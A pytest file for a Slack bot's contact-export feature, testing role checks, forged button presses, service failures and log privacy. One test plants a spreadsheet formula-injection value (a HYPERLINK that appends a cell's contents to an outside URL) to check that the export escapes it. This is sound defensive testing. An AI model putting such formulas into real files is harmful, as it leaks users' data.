"""Contacts as a file: to who asked only, where the role allows it, whatever SMS-iT and Slack do meanwhile."""

import logging
from collections.abc import Iterator

import pytest

from bot.access import Who
from bot.sandbox.slack.model import Answer
from bot.sandbox.smsit.faults import Fault
from tests.flows import cards, people
from tests.flows.broadcasting import own_harness
from tests.flows.harness import ADA, NORA, Harness
from tests.flows.people import DIRECT, HELP, Contacts
from tests.flows.staff import LENA, MAYA, PRIYA, SAM, TOM

pytestmark = pytest.mark.measured

TITLES = [
    *("Number", "Name", "Email", "Birthday", "Groups", "Opted out of", "Subscribed", "Do not text"),
    *("Signed up by", "Since"),
]
NOT_FOR = "You need the *admin* role to export contacts."
OTHERS = """
[roles]
viewer = ["*"]
sender = ["S0DESK"]
broadcaster = ["U0MAYA"]
admin = ["U0TOM"]
[contacts]
full_numbers = "sender"
export = "broadcaster"
"""


@pytest.fixture
def tom(harness: Harness) -> Iterator[Contacts]:
    yield Contacts(people.ready(harness), TOM)
    harness.quiet()


def export(desk: Contacts, line: str = "") -> tuple[Answer, list[list[str]]]:
    """Export what a search finds; return the press and the rows of the file without its titles."""
    desk.find(line)
    pressed = desk.press("Export")
    assert "is in your direct messages." in desk.shown
    titles, *rows = desk.files[-1]
    assert titles == TITLES
    return pressed, rows


def test_who_asked_gets_everybody_once_in_a_direct_message_and_nobody_else_sees_it(tom: Contacts) -> None:
    stopped = tom.put("14155550800", "Stella Stop")
    tom.harness.bot.services.do_not_text.add(stopped, "asked", Who(TOM, "T0HARBOUR"))

    _pressed, rows = export(tom)

    by_number = {row[0]: row for row in rows}
    assert len(by_number) == len(rows)
    assert set(by_number) == {f"+{contact.number}" for contact in tom.smsit.book.contacts}
    ada, nora = by_number[f"+{ADA}"], by_number[f"+{NORA}"]
    assert ada[1:7] == [
        *("Ada Lovelace", "ada@example.com", "1985-12-10", "Newsletter, Tuesday clinic, VIP", "", "yes")
    ]
    assert [row[0] for row in rows if row[7]] == [f"+{stopped}"]
    assert nora[4:7] == ["New patients, Newsletter", "New patients, Newsletter", "no"]
    said = tom.person.sees(DIRECT)[-1]
    assert (
        f"Here are the {len(rows)} contacts you exported, with full numbers. Handle the file with care."
        in said.text
    )
    for who in (MAYA, PRIYA, SAM, LENA):
        other = tom.seat(who)
        assert other.files == []
        everywhere = [*other.person.sees(HELP), *other.person.sees("C0FRONT"), *other.person.sees(DIRECT)]
        assert not any(each.files or "you exported, with full numbers" in each.text for each in everywhere)


def test_a_file_holds_what_the_search_found_and_says_what_it_leaves_out(tom: Contacts) -> None:
    _pressed, rows = export(tom, "group:VIP")

    request = {row.contact.number for row in tom.memberships(group="VIP")}
    assert {row[0] for row in rows} == {f"+{number}" for number in request}
    assert {row[4] for row in rows} == {"VIP"}
    assert "It lists only the groups you searched for." in tom.person.sees(DIRECT)[-1].text
    tom.press("Back to contacts")
    assert "in *VIP*" in tom.shown
    assert {cards.digits(row) for row in tom.every_page()} == request


def test_what_a_spreadsheet_would_run_is_harmless_in_the_file(tom: Contacts) -> None:
    formula = '=HYPERLINK("http://example.com/?"&A1)'
    tom.put("14155550811", formula, groups=("@VIP, all",), email="+1@example.com")
    tom.put("14155550812", "\t-2+3 Export", groups=("VIP",))

    rows = export(tom, "1415555081")[1]

    cells = [cell for row in rows for cell in row]
    assert f"'{formula}" in cells
    assert "'@VIP, all" in cells
    risky = [cell for cell in cells if cell.startswith(("=", "@", "-", "+", "\t"))]
    assert risky == ["+14155550811", "+14155550812"]  # a number is a number


@pytest.mark.parametrize("who", [SAM, PRIYA, MAYA, LENA])
def test_others_are_not_offered_it_and_get_nothing_by_a_forged_press(tom: Contacts, who: str) -> None:
    pressed, _rows = export(tom)
    before = len(list(tom.harness.sandbox.slack.files))
    other = tom.seat(who)
    other.find()
    assert "Export" not in other.buttons

    forged = other.forged(pressed, trigger_id=f"{who}.1", view=_view(other))

    assert forged.acked
    other.told(NOT_FOR)
    tom.harness.quiet()
    assert len(list(tom.harness.sandbox.slack.files)) == before
    assert other.files == []
    assert other.title == people.LIST


def test_a_press_that_is_not_confirmed_or_delivered_again_hands_out_no_second_file(tom: Contacts) -> None:
    pressed, _rows = export(tom)
    before = len(tom.files)
    tom.press("Back to contacts")

    assert tom.person.press("Export", confirm=False) is None
    tom.again(pressed)

    assert len(tom.files) == before
    assert tom.title == "Contacts"  # nor is what is shown by now covered by what was


def test_a_broken_smsit_makes_no_file_and_a_slow_one_makes_a_whole_one(
    tom: Contacts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.smsit.delays._FIRST_PAUSE", 0.0)
    before = len(tom.files)
    tom.find()
    tom.smsit.faults.add("getcontacts", Fault.HTTP502, times=None)
    tom.press("Export")
    assert "SMS-iT gave no usable answer" in tom.shown
    assert len(tom.files) == before
    tom.smsit.faults.clear()
    tom.press("Back to contacts")

    with tom.silent() as gate:
        tom.person.press("Export")
        tom.harness.wait_for(lambda: "Reading contacts" in tom.shown)
        gate.open()
        tom.settled("")

    assert len(tom.files) == before + 1
    assert len(tom.files[-1]) == 1 + len(tom.smsit.book.contacts)


def test_a_file_slack_does_not_take_is_told_and_made_again(tom: Contacts) -> None:
    before = len(tom.files)
    tom.find("lovelace")
    tom.harness.sandbox.slack.fail("files.getUploadURLExternal", "internal_error")

    tom.press("Export")

    assert "Slack didn't accept the file." in tom.shown
    tom.press("Back to contacts")
    tom.press("Export")
    assert len(tom.files) == before + 1


def test_neither_names_nor_numbers_stand_in_the_log(tom: Contacts, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG, logger="bot")
    export(tom, "lovelace")

    assert f"1 contacts were exported by {TOM}" in caplog.text
    for told in (ADA, ADA[1:], "Lovelace", "lovelace", "ada@example.com"):
        assert told not in caplog.text


def test_the_policy_says_who_sees_whole_numbers_and_who_exports(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    harness = own_harness(tmp_path_factory.mktemp("house"), OTHERS)
    try:
        priya, maya, sam = (Contacts(people.ready(harness), who) for who in (PRIYA, MAYA, SAM))

        assert "+1 415-555-0100" in priya.find("lovelace")
        assert "Export" not in priya.buttons
        assert "•••0100" in sam.find("lovelace")
        _pressed, rows = export(maya, "lovelace")

        assert [row[0] for row in rows] == [f"+{ADA}"]
        assert harness.sandbox.slack.problems == []
    finally:
        harness.close()


def _view(desk: Contacts) -> dict[str, object]:
    assert desk.person.view
    return desk.person.view.payload()
